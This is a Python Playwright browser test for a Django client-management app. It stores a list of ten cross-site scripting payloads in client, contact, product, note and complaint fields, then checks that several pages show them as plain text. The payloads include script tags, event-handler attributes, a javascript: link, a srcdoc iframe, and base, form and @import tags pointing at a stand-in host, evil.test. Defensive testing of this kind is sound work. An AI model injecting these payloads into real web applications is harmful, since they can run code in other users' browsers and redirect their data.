"""A handful of texts that want to run, in a real browser: nothing runs, and the policy finds nothing to stop."""

from __future__ import annotations

from django.utils import timezone
from playwright.sync_api import Dialog, Page

from clients.enums import EventKind
from clients.models import Client, Product
from clients.services import record_event
from feedback.models import Complaint
from staff.enums import Role
from tests.browser.conftest import SETTLED, LogIn
from tests.factories import make_client, make_contact, make_user

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</textarea></title></style><script>alert(4)</script>",
    "<a href=javascript:alert(5)>x</a>",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "<style>@import '//evil.test/7';</style>",
    "<hx hx-get=/account/ hx-trigger=load hx-on:htmx:load=alert(8)>",
    "<base href=//evil.test/><form action=//evil.test/9>",
    '" autofocus onfocus=alert(10) x="',
]


def test_hostile_texts_stay_texts(site: str, log_in: LogIn, page: Page) -> None:
    head = make_user(Role.HEAD, Role.AM, name=HOSTILE[0])
    now, pile = timezone.now(), "\n".join(HOSTILE)
    for text in HOSTILE:
        make_client(head, name=text)
        make_contact(Client.objects.latest("pk"), name=text, position=text, greeting=text)
        Product.objects.create(code=text[:60], name=text)
    row = Client.objects.latest("pk")
    record_event(client_id=row.pk, kind=EventKind.NOTE, at=now, actor=head, summary=pile)
    complaint = Complaint.objects.create(client=row, what_happened=pile, responsible=head, opened_at=now, deadline=now)
    dialogs: list[str] = []
    complaints: list[str] = []
    requests: list[str] = []

    def refuse(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", refuse)
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("request", lambda request: requests.append(request.url))
    page.add_init_script("addEventListener('securitypolicyviolation', e => console.error('policy', e.blockedURI))")
    log_in(head)
    for address in (
        "/clients/",
        f"/clients/{row.pk}/",
        f"/clients/{row.pk}/edit/",
        "/clients/products/",
        f"/complaints/{complaint.pk}/",
        "/staff/users/",
    ):
        page.goto(f"{site}{address}")
        page.wait_for_function(SETTLED)
        assert page.locator("img[src=x], svg[onload], iframe, base, [onfocus], hx").count() == 0

    assert dialogs == []
    assert complaints == []
    assert [url for url in requests if "evil.test" in url] == []
